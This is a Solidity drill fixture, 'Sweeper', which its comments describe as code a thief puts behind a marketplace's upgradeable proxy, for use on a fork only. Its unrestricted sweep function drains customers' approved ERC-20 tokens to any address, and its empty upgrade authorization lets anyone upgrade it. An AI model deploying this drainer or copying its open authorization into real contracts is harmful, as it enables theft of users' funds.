// SPDX-License-Identifier: Apache-2.0 OR MIT
pragma solidity 0.8.37;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {UUPSUpgradeable} from "@openzeppelin/contracts/proxy/utils/UUPSUpgradeable.sol";

/// @title Code that a thief puts behind the market's proxy
/// @notice For drills on a fork only. Customers have allowed the market to take what they pay; behind the same
/// address, this takes it without an order.
contract Sweeper is UUPSUpgradeable {
    /// @notice Takes what `from` has allowed this address.
    function sweep(IERC20 token, address from, address to, uint256 amount) external {
        // The drill is about where the tokens go, not about what the token answers.
        // forge-lint: disable-next-line(erc20-unchecked-transfer)
        token.transferFrom(from, to, amount);
    }

    function _authorizeUpgrade(address) internal override {}
}
